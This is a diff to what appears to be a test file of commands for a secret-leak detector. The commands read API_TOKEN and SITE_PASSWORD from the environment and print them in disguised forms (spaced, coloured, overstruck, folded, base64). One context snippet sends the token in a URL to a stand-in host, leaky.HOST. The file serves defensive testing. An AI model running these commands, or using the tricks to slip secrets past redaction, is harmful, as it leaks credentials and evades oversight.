@@ -53,6 +53,13 @@ print("- '" + secret.replace("'", "''") + "'", "".join(f"&#x{ord(sign):X};" for 
 print("".join(f"\\\\u{ord(sign):04X}" if sign in "'<&" else sign for sign in secret))
 print(unicodedata.normalize("NFD", secret).replace("%", "%25").replace("{", "%7B"))
 """
+_APART = """
+import os
+secret = os.environ["SITE_PASSWORD"]
+print(" ".join(secret), "-".join(secret), list(secret), sep="\\n")
+print("".join(f"\\x1b[3{number % 8}m{sign}" for number, sign in enumerate(secret)), "\\x1b[0m")
+print("".join(f"{sign}\\b{sign}" for sign in os.environ["API_TOKEN"]))
+"""
 _IN_A_URL = f"""
 import os, urllib.request
 address = "http://{leaky.HOST}/shown?secret=" + os.environ["API_TOKEN"]
@@ -66,6 +73,8 @@ COMMANDS = (
     f"python3 -c {shlex.quote(_ESCAPED)}",
     f"python3 -c {shlex.quote(_IN_A_URL)}",
     'printf %s "$API_TOKEN" > notes.txt && cat notes.txt && rm notes.txt',
+    f"python3 -c {shlex.quote(_APART)}",
+    'printf %s "$API_TOKEN" | fold -w5; echo; printf %s "$API_TOKEN" | fold -w1 | cat -n',
     'printf "%q\\n" "$SITE_PASSWORD"; LC_ALL=C; printf "%q\\n" "$SITE_PASSWORD"',
     'printf %s "$API_TOKEN$API_TOKEN" | base64 -w64 | sed "s/$/\\r/"',
     'printf %s "$API_TOKEN$API_TOKEN" | iconv -t UTF-16LE | base64 | sed "s/$/\\r/"',
